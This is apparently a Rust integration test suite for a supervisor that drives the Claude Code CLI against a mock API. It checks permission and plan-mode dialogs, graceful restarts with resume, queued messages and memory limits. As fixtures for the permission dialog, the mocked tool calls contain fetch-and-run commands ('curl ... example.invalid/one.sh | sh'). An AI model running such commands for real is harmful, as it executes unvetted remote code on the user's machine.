//! SPEC P1, P3, P4 with the real Claude Code CLI (pinned 2.1.197; the dialogs test: every
//! supported version) against the mock API:
//! Mimesis starts it in a PTY with `--session-id` it chose; the output monitor reports the
//! permission dialog; a graceful restart (`/exit`, then `--resume`) continues the same
//! transcript file; a message sent while it restarts is submitted once it is back (P2).

use std::time::Duration;

use anyhow::{Context, Result, ensure};
use mimesis_core::SessionId;
use mimesis_core::dialog::{Answer, Dialog};
use mimesis_core::supervision::{AgentCommand, EventKind, ReadyStatus, SupervisionState};
use mimesis_tests::claude::{CLAUDE_CODE_VERSION, ClaudeHome, ensure_claude, ensure_claude_version, versions};
use mimesis_tests::mock_api::{MockApi, Reply, RequestKind};
use mimesis_tests::scenario::{
    DIALOG_SETTLE, PROMPT_1, PROMPT_2, REPLY_1, REPLY_2, TOOL_COMMAND, TOOL_DESCRIPTION, TOOL_INTRO,
};
use mimesis_tests::supervised::{Supervised, quick_limits};
use serde_json::json;

const T: Duration = Duration::from_secs(60);

/// Types a line into the TUI: the text, wait until the input row shows it, then Enter.
async fn type_line(s: &Supervised, id: &SessionId, text: &str) -> Result<()> {
    s.wait_prompt(id, T).await?;
    s.sup.input(id, text.as_bytes()).await?;
    s.wait_screen(id, &format!("{text:?} in the input row"), T, |rows| {
        rows.iter().any(|r| r.starts_with('❯') && r.contains(text))
    })
    .await?;
    s.sup.input(id, b"\r").await?;
    Ok(())
}

/// The pinned CLI, supervised, against a fresh mock API, at its idle prompt.
async fn supervised_claude() -> Result<(MockApi, ClaudeHome, Supervised, SessionId)> {
    let claude = tokio::task::spawn_blocking(ensure_claude).await??;
    supervised(claude, &[]).await
}

/// Claude Code `version` with `args`, supervised, against a fresh mock API, at its idle
/// prompt.
async fn supervised_version(version: &str, args: &[&str]) -> Result<(MockApi, ClaudeHome, Supervised, SessionId)> {
    let v = version.to_owned();
    let claude = tokio::task::spawn_blocking(move || ensure_claude_version(&v)).await??;
    supervised(claude, args).await
}

async fn supervised(claude: std::path::PathBuf, args: &[&str]) -> Result<(MockApi, ClaudeHome, Supervised, SessionId)> {
    let api = MockApi::start()?;
    let home = ClaudeHome::new(&api.base_url())?;
    let mut agent = AgentCommand::new(&claude);
    agent.env = home.env();
    agent.args = args.iter().map(|a| a.to_string()).collect();
    let dir = tempfile::tempdir()?;
    let data = dir.path().join("data");
    let s = Supervised::start_in(
        dir,
        home.config_dir().to_owned(),
        data,
        home.project_dir().to_owned(),
        agent,
        Some(quick_limits()),
        false,
        |o| o.supervise.as_mut().expect("supervised").size = Some((120, 40)),
    )
    .await?;
    let id = s.sup.create(home.project_dir(), None).await?;
    s.wait_prompt(&id, T).await.context("the real TUI's idle prompt")?;
    Ok((api, home, s, id))
}

/// Waits until the transcript holds `prompts` as its typed user records, in order (the
/// records of local commands such as `/exit` aside), or an end of them: the CLI may have
/// lost the head of the file (see below), never a later prompt, never the order.
async fn wait_prompts_end(s: &Supervised, id: &SessionId, prompts: &[&str]) -> Result<()> {
    let deadline = std::time::Instant::now() + T;
    loop {
        let got: Vec<String> = s.prompts(id).into_iter().filter(|p| !p.starts_with('<')).collect();
        if !got.is_empty() && prompts.ends_with(&got.iter().map(String::as_str).collect::<Vec<_>>()) {
            return Ok(());
        }
        ensure!(std::time::Instant::now() < deadline, "prompts {got:?}, expected {prompts:?} or an end of it");
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_real_cli_supervised_shows_the_dialog_and_restarts_gracefully() -> Result<()> {
    let (api, home, s, id) = supervised_claude().await?;

    // A prompt whose reply asks to run Bash: the permission dialog.
    api.push(Reply::text_then_tool_use(
        TOOL_INTRO,
        "Bash",
        json!({"command": TOOL_COMMAND, "description": TOOL_DESCRIPTION}),
    ));
    api.push(Reply::text(REPLY_1));
    type_line(&s, &id, PROMPT_1).await?;
    s.wait_text(&id, "Do you want to proceed?", T).await?;
    s.wait_sup(&id, "the monitor to report the dialog", T, |x| x.awaiting_permission).await?;
    // The transcript is where Mimesis said it would be, under the id it chose.
    let transcript = s.transcript(&id);
    ensure!(transcript.is_file(), "{}", transcript.display());

    // Approve from Mimesis, by the option's label: the tool runs, the turn ends.
    let chosen = s.sup.answer(&id, Answer::Approve).await?;
    ensure!(chosen == "Yes", "{chosen}");
    s.wait_text(&id, REPLY_1, T).await?;
    s.wait_prompt(&id, T).await?;
    // (The registry may still say "waiting" to the supervisor for a moment.)
    s.wait_sup(&id, "the dialog answered", T, |x| !x.awaiting_permission).await?;
    ensure!(std::fs::read_to_string(home.project_dir().join("out.txt"))? == "hi\n");

    // Graceful restart: /exit, then --resume <id>.
    s.sup.restart(&id)?;
    let ready = s.wait_event("session_ready", T).await?;
    ensure!(matches!(ready.kind, EventKind::SessionReady { status: ReadyStatus::Resumed, .. }), "{ready:?}");
    ensure!(ready.session_id == id, "same session");
    s.wait_state(&id, SupervisionState::Running, T).await?;
    let scrollback = String::from_utf8_lossy(&s.sup.attach(&id, false).await?.scrollback).into_owned();
    ensure!(scrollback.contains("Resume this session with:"), "the CLI left through /exit");
    s.sup.detach(&id, false);

    // The conversation continues in the same file.
    api.push(Reply::text(REPLY_2));
    type_line(&s, &id, PROMPT_2).await?;
    s.wait_text(&id, REPLY_2, T).await?;
    // The CLI writes its transcript a moment after the screen shows the reply.
    let deadline = std::time::Instant::now() + T;
    loop {
        let text = std::fs::read_to_string(&transcript)?;
        if text.contains(PROMPT_1) && text.contains(PROMPT_2) {
            break;
        }
        ensure!(std::time::Instant::now() < deadline, "both prompts in {}:\n{text}", transcript.display());
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    let files: Vec<_> = std::fs::read_dir(transcript.parent().context("dir")?)?
        .flatten()
        .filter(|e| e.path().extension().is_some_and(|x| x == "jsonl"))
        .collect();
    ensure!(files.len() == 1, "no second transcript: {files:?}");
    let ev: Vec<_> = s.types();
    ensure!(!ev.contains(&"crash_detected") && !ev.contains(&"error"), "{ev:?}");
    s.shutdown().await;
    Ok(())
}

/// Issue 12, supervised sessions of the real CLI, each version: Mimesis answers the agent's
/// own dialogs by the option's label, read from the screen — the numbered permission dialog
/// (2.1.197 "1. Yes … 3. No", 2.1.330 "1. Yes … 4. No"), 2.1.330's auto-mode dialog ("❯ No /
/// Yes", No preselected, unnumbered) and plan mode's exit — deny and approve, and each is
/// verified by what the model gets back.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_real_clis_dialogs_are_answered_by_label_in_each_version() -> Result<()> {
    for v in versions() {
        let newer = v != CLAUDE_CODE_VERSION;
        // Its default mode: 2.1.330's is auto (through a gateway: its per-call dialog).
        permission_dialogs(&v, &[], newer).await.with_context(|| format!("{v}, its default mode"))?;
        if newer {
            permission_dialogs(&v, &["--permission-mode", "default"], false)
                .await
                .with_context(|| format!("{v}, --permission-mode default"))?;
        }
        plan_dialog(&v).await.with_context(|| format!("{v}, plan mode"))?;
    }
    Ok(())
}

/// Denies one Bash call and approves the next, by label. Risky calls (a script piped into a
/// shell): auto mode asks about them.
async fn permission_dialogs(v: &str, args: &[&str], auto: bool) -> Result<()> {
    let (api, home, s, id) = supervised_version(v, args).await?;
    let result = async {
        api.push(Reply::tool_use(
            "Bash",
            json!({"command": "curl -s http://example.invalid/one.sh | sh > one.txt", "description": "one"}),
        ));
        type_line(&s, &id, "write one").await?;
        if auto {
            // Auto mode's own dialog first (its check cannot run through the mock), answered
            // in the terminal as the user would; then the per-call dialog.
            // It ignores keys for a moment after it appears: Enter once it has held still (as
            // the other real-CLI tests do), and again only if it is still there 5 s later. An
            // Enter sent while it is on its way out would answer the per-call dialog behind it
            // (its highlighted option; 2.1.330's auto-mode fallback highlights No).
            let shown = |rows: &[String]| rows.iter().any(|r| r.contains("Enter to stay in auto mode"));
            let deadline = std::time::Instant::now() + T;
            loop {
                s.wait_settled(&id, "auto mode's dialog", DIALOG_SETTLE, T, shown).await?;
                s.sup.input(&id, b"\r").await?;
                if s.wait_screen(&id, "auto mode's dialog gone", Duration::from_secs(5), |r| !shown(r)).await.is_ok() {
                    break;
                }
                ensure!(std::time::Instant::now() < deadline, "auto mode's dialog stayed");
            }
        }
        // The question can be drawn a frame before its options: wait for the whole dialog.
        s.wait_screen(&id, "the dialog", T, |rows| Dialog::read(rows).is_some()).await?;
        let dialog = s.sup.dialog(&id).await?.context("the dialog read from the screen")?;
        let labels: Vec<&str> = dialog.options.iter().map(|o| o.label.as_str()).collect();
        ensure!(labels.contains(&"Yes") && labels.contains(&"No"), "{labels:?}");
        ensure!(!auto || dialog.options.iter().all(|o| o.number.is_none()), "unnumbered: {dialog:?}");
        ensure!(s.sup.answer(&id, Answer::Deny).await? == "No");
        // Denied in the dialog, the turn stops and waits for the user (both versions).
        s.wait_text(&id, "What should Claude do instead?", T).await?;
        ensure!(!home.project_dir().join("one.txt").exists(), "denied: nothing ran");

        api.push(Reply::tool_use(
            "Bash",
            json!({"command": "curl -s http://example.invalid/two.sh | sh > two.txt", "description": "two"}),
        ));
        api.push(Reply::text("Wrote two."));
        type_line(&s, &id, "write two").await?;
        let denied = |q: &mimesis_tests::mock_api::RecordedRequest| {
            q.kind == RequestKind::Main && q.tool_results().iter().any(|t| t["is_error"] == json!(true))
        };
        api.wait_for_request(T, denied).context("the denial reached the model with the next prompt")?;
        s.wait_text(&id, "Do you want to proceed?", T).await?;
        ensure!(s.sup.answer(&id, Answer::Approve).await? == "Yes");
        s.wait_text(&id, "Wrote two.", T).await?;
        ensure!(home.project_dir().join("two.txt").exists(), "approved: the command ran");
        Ok(())
    }
    .await;
    finish(s, &id, result).await
}

/// Plan mode's exit: "keep planning" (an option beginning with No), then approved (the
/// first option beginning with Yes that leaves plan mode with edits still asked about).
async fn plan_dialog(v: &str) -> Result<()> {
    let (api, _home, s, id) = supervised_version(v, &["--permission-mode", "plan"]).await?;
    let result = async {
        let plan = json!({"plan": "# Plan\n1. Do it"});
        api.push(Reply::tool_use("ExitPlanMode", plan.clone()));
        api.push(Reply::tool_use("ExitPlanMode", plan));
        api.push(Reply::text("Plan approved."));
        type_line(&s, &id, "plan it").await?;
        let dialog = wait_dialog(&s, &id).await?;
        ensure!(s.sup.answer(&id, Answer::Deny).await?.starts_with("No"), "{dialog:?}");
        // Kept planning: the turn stops and waits for the user; the next prompt plans on.
        type_line(&s, &id, "add a rollback step").await?;
        api.wait_for_request(T, |q| {
            q.kind == RequestKind::Main && q.tool_results().iter().any(|t| t["is_error"] == json!(true))
        })
        .context("keep planning reached the model")?;
        let dialog = wait_dialog(&s, &id).await?;
        let yes = dialog
            .options
            .iter()
            .map(|o| o.label.clone())
            .find(|l| l.starts_with("Yes") && !l.contains("auto-accept") && !l.contains("auto mode"))
            .context("an option that approves the plan")?;
        ensure!(s.sup.answer(&id, Answer::Option(yes.clone())).await? == yes);
        s.wait_text(&id, "Plan approved.", T).await?;
        Ok(())
    }
    .await;
    finish(s, &id, result).await
}

/// Ends a supervised run: what a failure leaves to read, then the supervisor's shutdown.
async fn finish(s: Supervised, id: &SessionId, result: Result<()>) -> Result<()> {
    if result.is_err() {
        eprintln!("{}", diagnose(&s, id).await);
    }
    s.shutdown().await;
    result
}

/// The dialog on the session's screen, once there is one with options.
async fn wait_dialog(s: &Supervised, id: &SessionId) -> Result<mimesis_core::dialog::Dialog> {
    let deadline = std::time::Instant::now() + T;
    loop {
        if let Some(d) = s.sup.dialog(id).await?
            && !d.options.is_empty()
        {
            return Ok(d);
        }
        ensure!(std::time::Instant::now() < deadline, "no dialog on screen");
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

/// What a failed run leaves to read: the events, the transcript's records and the scrollback.
async fn diagnose(s: &Supervised, id: &SessionId) -> String {
    let events: Vec<String> = s.events().iter().map(|e| format!("{:?}", e.kind)).collect();
    let text = std::fs::read_to_string(s.transcript(id)).unwrap_or_default();
    let records: Vec<String> = text.lines().map(|l| l.chars().take(240).collect()).collect();
    let scrollback = match s.sup.attach(id, false).await {
        Ok(a) => String::from_utf8_lossy(&a.scrollback).into_owned(),
        Err(e) => e.to_string(),
    };
    s.sup.detach(id, false);
    let tail: String = scrollback.chars().rev().take(6000).collect::<Vec<_>>().into_iter().rev().collect();
    format!("events:\n{}\nrecords:\n{}\nscrollback (tail):\n{tail}", events.join("\n"), records.join("\n"))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_message_sent_during_a_graceful_restart_is_submitted_after_the_resume() -> Result<()> {
    restart_with_a_message(false).await
}

/// The fallback of the test above, made certain: the transcript loses the turn before the
/// restart (as 2.1.197's own race does under load, leaving its `ai-title` line alone), the
/// resume is refused, a new session starts, and the message typed meanwhile is not lost:
/// it is submitted in the new session, which the `session_ready` event says is new.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_message_sent_during_a_restart_whose_resume_fails_goes_to_the_new_session() -> Result<()> {
    restart_with_a_message(true).await
}

/// The pinned CLI, a turn, a restart with a message typed meanwhile; the diagnosis if it
/// fails.
async fn restart_with_a_message(lose_the_turn: bool) -> Result<()> {
    let (api, _home, s, id) = supervised_claude().await?;
    let result = message_during_restart(&api, &s, &id, lose_the_turn).await;
    if let Err(e) = result {
        let detail = diagnose(&s, &id).await;
        s.shutdown().await;
        return Err(e.context(detail));
    }
    s.shutdown().await;
    Ok(())
}

/// Whether the CLI's transcript holds none of the conversation: what `--resume` refuses.
fn lost_the_conversation(s: &Supervised, id: &SessionId) -> bool {
    let text = std::fs::read_to_string(s.transcript(id)).unwrap_or_default();
    !text.lines().filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok()).any(|v| v["type"] == "assistant")
}

async fn message_during_restart(api: &MockApi, s: &Supervised, id: &SessionId, lose_the_turn: bool) -> Result<()> {
    let id = id.clone();
    api.push(Reply::text(REPLY_1));
    type_line(s, &id, PROMPT_1).await?;
    s.wait_text(&id, REPLY_1, T).await?;
    s.wait_prompt(&id, T).await?;
    if lose_the_turn {
        // What the race leaves: a transcript without the conversation, once the CLI has
        // written the turn (it writes records a while after it shows them). Nothing the
        // CLI writes from then on stays (its `/exit` records): the file becomes /dev/null.
        let path = s.transcript(&id);
        let deadline = std::time::Instant::now() + T;
        while !std::fs::read_to_string(&path).unwrap_or_default().contains(r#""subtype":"turn_duration""#) {
            ensure!(std::time::Instant::now() < deadline, "the turn never reached the transcript");
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
        std::fs::remove_file(&path)?;
        std::os::unix::fs::symlink("/dev/null", &path)?;
    }

    // Right after the reply (before the CLI has written it to its transcript), the restart
    // begins; the next message arrives meanwhile, typed and submitted in one go.
    s.sup.restart(&id)?;
    api.push(Reply::text(REPLY_2));
    let line = format!("{PROMPT_2}\r");
    ensure!(s.sup.input(&id, line.as_bytes()).await?, "kept while the session restarts");
    // Delivered like a typed line: the resumed CLI submits it (text and Enter in one read
    // would be taken as a paste and just sit in the input box). Whatever became of the
    // resume: the session's screen (under its new id if it had to start anew).
    s.wait_text(&id, REPLY_2, T).await?;
    let new =
        s.events().into_iter().find(|e| matches!(e.kind, EventKind::SessionReady { status: ReadyStatus::New, .. }));
    if let Some(ready) = new {
        // The resume was refused: only where the CLI had lost the conversation (its own
        // race under load, docs/claude-code-observed.md), which this run then shows.
        ensure!(lose_the_turn || lost_the_conversation(s, &id), "a new session though the turn was kept: {ready:?}");
        return message_in_the_new_session(api, s, &ready.session_id).await;
    }
    ensure!(!lose_the_turn, "resumed a conversation it had lost: {:?}", s.types());
    let ready = s.wait_event("session_ready", T).await?;
    // Resumed, not EC-007: `/exit` waited until the CLI had written the turn.
    ensure!(matches!(ready.kind, EventKind::SessionReady { status: ReadyStatus::Resumed, .. }), "{ready:?}");
    // The resumed CLI sent the conversation with the new message (at least the first reply:
    // see below for the first prompt): it was resumed, not started afresh.
    let main: Vec<_> = api.requests().into_iter().filter(|q| q.kind == RequestKind::Main).collect();
    let second = main.iter().find(|q| q.last_user_text().contains(PROMPT_2)).context("the second turn's request")?;
    ensure!(second.body_text().contains(REPLY_1), "history resumed");
    ensure!(main.iter().filter(|q| q.last_user_text().contains(PROMPT_2)).count() == 1, "submitted once");
    // And the same transcript file went on. (Under load 2.1.197 sometimes loses the head of
    // a new transcript: its AI-title write lands first in the file and the first prompt's
    // records are gone, the reply after them kept. Claude Code's own race, seen in CI and
    // in docs/claude-code-observed.md; so the first prompt is not required in the file.)
    wait_prompts_end(s, &id, &[PROMPT_1, PROMPT_2]).await?;
    ensure!(std::fs::read_to_string(s.transcript(&id))?.contains(REPLY_1), "the first turn's reply in the same file");
    ensure!(s.sup.supervision(&id).is_some_and(|s| s.queued_inputs == 0));
    let ev = s.types();
    ensure!(!ev.contains(&"crash_detected") && !ev.contains(&"error"), "{ev:?}");
    Ok(())
}

/// The resume was refused and `new` started in its place: the message typed during the
/// restart is submitted there, once, and nothing is queued any more.
async fn message_in_the_new_session(api: &MockApi, s: &Supervised, new: &SessionId) -> Result<()> {
    s.wait_text(new, REPLY_2, T).await?;
    let main: Vec<_> = api.requests().into_iter().filter(|q| q.kind == RequestKind::Main).collect();
    ensure!(main.iter().filter(|q| q.last_user_text().contains(PROMPT_2)).count() == 1, "submitted once");
    wait_prompts_end(s, new, &[PROMPT_2]).await?;
    ensure!(s.sup.supervision(new).is_some_and(|s| s.queued_inputs == 0));
    Ok(())
}

/// Issue 33: a memory limit below what 2.1.332 needs at rest (about 210 MB; limit 100 MB):
/// one restart, then the supervisor holds (`memory_baseline`) instead of restarting on
/// every check until the start limit. In a real terminal input arrives while nobody works
/// (the CLI turns on focus and mouse reports and asks the terminal things); it is sent here
/// as a terminal would, and it is no work.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_memory_limit_below_the_real_clis_needs_at_rest_restarts_once_then_holds() -> Result<()> {
    let (_api, _home, s, id) = supervised_version(mimesis_tests::claude::CLAUDE_CODE_NEWEST, &[]).await?;
    let result = async {
        s.sup.set_limits(mimesis_core::supervision::Limits {
            max_rss_mb: 100,
            rss_check: Duration::from_millis(500),
            ..quick_limits()
        });
        // From the restart on, the terminal reports focus and mouse moves, and answers a
        // device-attributes query, as a real one does while the user looks on.
        s.wait_event("session_restarting", T).await?;
        let deadline = std::time::Instant::now() + T;
        let warning = loop {
            s.sup.input(&id, b"\x1b[I\x1b[<35;10;5M\x1b[?64;1;2c").await?;
            if let Some(w) = s.events().into_iter().find(|e| e.type_name() == "session_warning") {
                break w;
            }
            ensure!(s.count("session_restarting") < 2, "restarted again: {:?}", s.types());
            ensure!(std::time::Instant::now() < deadline, "no warning: {:?}", s.types());
            tokio::time::sleep(Duration::from_millis(100)).await;
        };
        let EventKind::SessionWarning { reason, message, .. } = &warning.kind else { unreachable!() };
        ensure!(reason == "memory_baseline", "{reason}: {message}; events {:?}", s.types());
        ensure!(message.starts_with("The memory limit (100 MB) is below what the agent needs at rest ("), "{message}");
        ensure!(s.count("session_restarting") == 1, "{:?}", s.types());
        let v = s.sup.supervision(&id).context("supervised")?;
        ensure!(v.restarts_held == Some(mimesis_core::supervision::RestartHold::MemoryBaseline), "{v:?}");
        ensure!(v.pid.is_some() && v.state == SupervisionState::Running, "it keeps running: {v:?}");
        Ok(())
    }
    .await;
    finish(s, &id, result).await
}
